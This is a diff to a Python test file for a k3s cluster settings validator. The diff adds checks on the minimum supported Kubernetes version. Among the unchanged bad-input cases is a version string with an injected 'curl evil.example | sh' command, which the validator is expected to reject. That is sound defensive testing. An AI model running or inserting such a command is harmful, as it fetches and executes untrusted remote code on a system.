@@ -33,6 +33,7 @@ def test_pi5_stack_settings_are_valid_and_typed():
     assert versions.kubernetes_minor("v1.35.5+k3s1") == "1.35"
     assert s.kubernetes_minor == versions.kubernetes_minor(versions.K3S_VERSION)
     assert load({"k3sVersion": "v1.34.1+k3s2"}).kubernetes_minor == "1.34"
+    assert load({"k3sVersion": "v1.30.0+k3s1"}).k3s_version == "v1.30.0+k3s1", "the oldest supported minor"
     assert s.agents == ()
     assert s.hostnames[:2] == ("taehoonlee.cloud", "spitikos.dev") and "*.taehoonlee.cloud" in s.hostnames
     assert (s.api_hostname, s.argocd_hostname) == ("api.taehoonlee.cloud", "argocd.taehoonlee.cloud")
@@ -109,6 +110,7 @@ BAD_INPUTS = [
         "spitikos:k3sVersion: 'v1.35.5+k3s1\\ncurl evil.example | sh' is not a k3s release tag",
     ),
     ("k3s-version-old", {"k3sVersion": "v1.27.1+k3s1"}, "spitikos:k3sVersion: 'v1.27.1+k3s1' is older than v1.30"),
+    ("k3s-version-29", {"k3sVersion": "v1.29.9+k3s1"}, "spitikos:k3sVersion: 'v1.29.9+k3s1' is older than v1.30"),
     ("ssh-key-missing", {"sshPrivateKey": None}, "spitikos:sshPrivateKey: is required but not set"),
     (
         "ssh-key-not-a-key",
